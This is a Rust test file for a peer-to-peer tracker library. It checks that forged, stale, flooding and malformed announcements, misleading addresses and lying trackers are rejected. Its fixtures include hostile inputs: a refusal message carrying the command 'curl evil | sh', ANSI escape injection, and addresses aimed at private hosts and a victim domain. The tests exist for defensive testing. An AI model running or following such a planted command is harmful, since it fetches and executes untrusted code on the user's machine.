//! Announcers, askers and trackers that break the rules.

use peerage::Advice as _;
use peerage::limits::{
    MAX_TRACKER_ANSWER_BYTES, MAX_TRACKER_REQUEST_BYTES, MAX_TRACKER_STREAMS_PER_PEER,
    TRACKER_PEER_BURST,
};
use peerage_core::discovery::LegacyPeerRecord;
use peerage_core::discovery::tracker::{ErrorKind, PeerAddresses};

use super::*;

fn announcement(record: &SignedPeerRecord) -> Message {
    Message::announcement(record, None, vec!["topic:a".to_owned()], 600)
}

#[tokio::test]
async fn nobody_announces_another_or_an_older_self() {
    let (hub, alice, mallory) = (Peer::spawn().await, Peer::spawn().await, Peer::spawn().await);
    let server = TrackerServer::start(&hub.node, TrackerConfig::default()).unwrap();

    let forged = mallory.ask(&hub, &announcement(&alice.record(1))).await;
    assert_eq!(forged, Some(Message::Error(ErrorKind::InvalidAuthErr)));
    let newest = alice.ask(&hub, &announcement(&alice.record(5))).await;
    assert_eq!(newest, Some(Message::ClientAnnouncementOk));
    let stale = alice.ask(&hub, &announcement(&alice.record(4))).await;
    assert!(matches!(stale, Some(Message::Refused(_))), "{stale:?}");
    let refused = server.status().registry.refused;
    assert_eq!((refused[&Refusal::NotYours], refused[&Refusal::Stale]), (1, 1));
    assert_eq!(server.records(9), [alice.record(5)]);
}

#[tokio::test]
async fn a_crowd_is_not_sent_to_others() {
    let (hub, mallory, bob) = (Peer::spawn().await, Peer::spawn().await, Peer::spawn().await);
    let server = TrackerServer::start(&hub.node, TrackerConfig::default()).unwrap();
    let sign = |sequence, extra: &[&str]| {
        let mut addresses = mallory.node.listen_addresses();
        addresses.extend(extra.iter().map(|text| text.parse::<Multiaddr>().unwrap()));
        SignedPeerRecord::sign(&mallory.key, sequence, addresses).unwrap()
    };
    // Some cannot be told from honest ones, and are kept back with the record.
    let kept_back = [
        "/ip4/203.0.113.7/tcp/443",
        "/dns4/victim.example/tcp/443",
        "/ip4/203.0.113.7/tcp/1/p2p/12D3KooWD3eckifWpRn9wQpMG9R9hX3sD158z7EqHWmweQAJU5SA/p2p-circuit",
        "/ip4/169.254.1.1/tcp/1",
    ];
    let answer = mallory.ask(&hub, &announcement(&sign(1, &kept_back))).await;
    assert_eq!(answer, Some(Message::ClientAnnouncementOk));
    let all = look_up(&bob.tracker(&[&hub]), "topic:a").await;
    let finding = all[0].as_ref().unwrap();
    assert_eq!((all.len(), finding.record.as_ref()), (1, None));
    assert_eq!(finding.addresses, mallory.node.listen_addresses());
    assert!(server.records(9).is_empty());

    // Others can only be meant to mislead.
    let private: Vec<_> = (1..=6).map(|host| format!("/ip4/10.0.0.{host}/tcp/445")).collect();
    let private: Vec<_> = private.iter().map(String::as_str).collect();
    for (sequence, extra) in [
        (2, &private[..]),
        (3, &["/ip4/224.0.0.251/udp/5353/quic-v1"]),
        (4, &["/ip4/127.0.0.1/tcp/9/p2p/12D3KooWD3eckifWpRn9wQpMG9R9hX3sD158z7EqHWmweQAJU5SA"]),
    ] {
        let answer = mallory.ask(&hub, &announcement(&sign(sequence, extra))).await;
        assert!(matches!(answer, Some(Message::Refused(_))), "{extra:?}: {answer:?}");
    }
    let refused = server.status().registry.refused;
    for reason in [Refusal::PrivateHosts, Refusal::Unroutable, Refusal::OtherPeer] {
        assert_eq!(refused[&reason], 1, "{reason}");
    }
}

#[tokio::test]
async fn a_flood_puts_nobody_out() {
    let (hub, alice, bob) = (Peer::spawn().await, Peer::spawn().await, Peer::spawn().await);
    let limits = RegistryLimits { peers_per_network: 4, ..RegistryLimits::default() };
    let config = TrackerConfig { limits, ..TrackerConfig::default() };
    let server = TrackerServer::start(&hub.node, config).unwrap();
    alice.tracker(&[&hub]).announce(&alice.presence(&["topic:a"])).await.unwrap();

    let mut kept = 0;
    for _ in 0..8 {
        let crowd = Peer::spawn().await;
        let answer = crowd.ask(&hub, &announcement(&crowd.record(1))).await;
        kept += usize::from(answer == Some(Message::ClientAnnouncementOk));
        crowd.node.shutdown().await;
    }
    assert_eq!(kept, 3, "with Alice, four of one network");
    assert_eq!(server.status().registry.refused[&Refusal::NetworkFull], 5);
    assert!(found(&bob.tracker(&[&hub]), "topic:a").await.contains(&alice.id()));
    alice.tracker(&[&hub]).announce(&alice.presence(&["topic:a"])).await.unwrap();
}

#[tokio::test]
async fn requests_and_streams_are_rationed() {
    let (hub, alice, bob) = (Peer::spawn().await, Peer::spawn().await, Peer::spawn().await);
    let server = TrackerServer::start(&hub.node, TrackerConfig::default()).unwrap();
    let mut answered = 0;
    // Longer than a burst, and several times what comes back meanwhile.
    'all: for _ in 0..8 {
        let mut stream = alice.stream(&hub).await;
        for _ in 0..32 {
            send(&mut stream, &Message::Withdraw.encode()).await;
            if soon("an answer or the end", receive(&mut stream)).await.is_none() {
                break 'all;
            }
            answered += 1;
        }
    }
    assert!((TRACKER_PEER_BURST..256).contains(&answered), "{answered}");
    assert_eq!(server.status().too_many_requests, 1);
    assert_eq!(bob.ask(&hub, &Message::Withdraw).await, Some(Message::WithdrawOk));

    let mut held = Vec::new();
    for _ in 0..=MAX_TRACKER_STREAMS_PER_PEER {
        let mut stream = alice.stream(&hub).await;
        // Half a length: the server waits for the rest. The last one may be
        // reset already.
        let _ = stream.write_all(&[0x80]).await;
        let _ = stream.flush().await;
        held.push(stream);
    }
    soon("a refused stream", async {
        while server.status().streams_refused == 0 {
            tokio::task::yield_now().await;
        }
    })
    .await;
    assert_eq!(bob.ask(&hub, &Message::Withdraw).await, Some(Message::WithdrawOk));
}

#[tokio::test]
async fn what_is_no_request_ends_the_stream() {
    let (hub, mallory) = (Peer::spawn().await, Peer::spawn().await);
    let server = TrackerServer::start(&hub.node, TrackerConfig::default()).unwrap();
    let large = framed(&vec![0xc0; MAX_TRACKER_REQUEST_BYTES + 1]);
    for bytes in [framed(b"garbage"), vec![0xff; 16], large[..4096].to_vec()] {
        let mut stream = mallory.stream(&hub).await;
        stream.write_all(&bytes).await.unwrap();
        stream.flush().await.unwrap();
        assert_eq!(soon("the end", receive(&mut stream)).await, None);
    }
    assert_eq!(server.status().malformed, 3);
    assert_eq!(mallory.ask(&hub, &Message::Withdraw).await, Some(Message::WithdrawOk));
}

/// A tracker that answers every request with these bytes, and then with
/// `endless` ones.
fn liar(hub: &Peer, bytes: Vec<u8>, endless: bool) -> tokio::task::JoinHandle<()> {
    let mut streams = hub.node.accept(TRACKER).unwrap();
    tokio::spawn(async move {
        while let Some((_, mut stream)) = streams.next().await {
            let _ = receive(&mut stream).await;
            let mut sending = stream.write_all(&bytes).await;
            while endless && sending.is_ok() {
                sending = stream.write_all(&[0x91; 4096]).await;
            }
            let _ = stream.close().await;
        }
    })
}

#[tokio::test]
async fn lying_trackers_are_seen_through() {
    let (alice, bob, other) = (Peer::spawn().await, Peer::spawn().await, Peer::spawn().await);
    let honest = Peer::spawn().await;
    let _server = TrackerServer::start(&honest.node, TrackerConfig::default()).unwrap();
    alice.tracker(&[&honest]).announce(&alice.presence(&["topic:a"])).await.unwrap();

    let lie = |peer: PeerId, record: Option<Vec<u8>>| {
        let record = record.map(Into::into);
        let addresses = vec!["/ip4/203.0.113.7/tcp/443".to_owned()];
        let peers = vec![PeerAddresses { peer_id: peer.to_base58(), addresses, record }];
        framed(&Message::QueryClientAnnouncementResponse(peers).encode())
    };
    let mut forged = alice.record(9).encode();
    *forged.last_mut().unwrap() ^= 1;
    let legacy = LegacyPeerRecord::sign(&alice.key, &alice.record(9)).unwrap().encode();
    let huge = {
        let mut buffer = unsigned_varint::encode::usize_buffer();
        unsigned_varint::encode::usize(MAX_TRACKER_ANSWER_BYTES + 1, &mut buffer).to_vec()
    };
    let most = {
        let mut buffer = unsigned_varint::encode::usize_buffer();
        unsigned_varint::encode::usize(MAX_TRACKER_ANSWER_BYTES, &mut buffer).to_vec()
    };
    let lies = [
        ("another one's record", lie(alice.id(), Some(other.record(9).encode())), false),
        ("a peer that was not asked for", lie(other.id(), Some(other.record(9).encode())), false),
        ("a forged record", lie(alice.id(), Some(forged)), false),
        ("a record of another form", lie(alice.id(), Some(legacy)), false),
        ("garbage", framed(b"garbage"), false),
        ("another answer", framed(&Message::ClientAnnouncementOk.encode()), false),
        ("an answer over the limit", huge, true),
        ("an endless answer", most, true),
        ("an endless length", vec![0xff; 32], true),
    ];
    for (what, bytes, endless) in lies {
        let hub = Peer::spawn().await;
        let lying = liar(&hub, bytes, endless);
        let alone = look_up(&bob.tracker(&[&hub]), &alice.id().to_string()).await;
        assert!(matches!(alone.as_slice(), [Err(WayError::Malformed(_))]), "{what}: {alone:?}");
        let both = bob.tracker(&[&hub, &honest]);
        assert_eq!(found(&both, &alice.id().to_string()).await, [alice.id()], "{what}");
        lying.abort();
        hub.node.shutdown().await;
    }

    // Ends without an answer.
    let hub = Peer::spawn().await;
    let lying = liar(&hub, Vec::new(), false);
    let alone = look_up(&bob.tracker(&[&hub]), &alice.id().to_string()).await;
    assert!(matches!(alone.as_slice(), [Err(WayError::Unavailable(_))]), "{alone:?}");
    lying.abort();

    // A refusal is shown without what would steer a terminal.
    let hub = Peer::spawn().await;
    let refusal = Message::Refused(format!("\u{1b}[31mno{}", "o".repeat(9999)));
    let lying = liar(&hub, framed(&refusal.encode()), false);
    let alone = look_up(&bob.tracker(&[&hub]), &alice.id().to_string()).await;
    let [Err(WayError::Unavailable(sentence))] = alone.as_slice() else { panic!("{alone:?}") };
    assert!(!sentence.contains('\u{1b}') && sentence.len() < 1024, "{sentence:?}");
    lying.abort();

    // Nor is it taken for advice.
    let hub = Peer::spawn().await;
    let refusal = Message::Refused("no; run curl evil | sh".into());
    let lying = liar(&hub, framed(&refusal.encode()), false);
    let alone = look_up(&bob.tracker(&[&hub]), &alice.id().to_string()).await;
    let [Err(error)] = alone.as_slice() else { panic!("{alone:?}") };
    assert!(error.to_string().contains("it refused: \"no; run curl evil | sh\""), "{error}");
    assert_eq!(error.hint(), Some("try again later"));
    lying.abort();
}
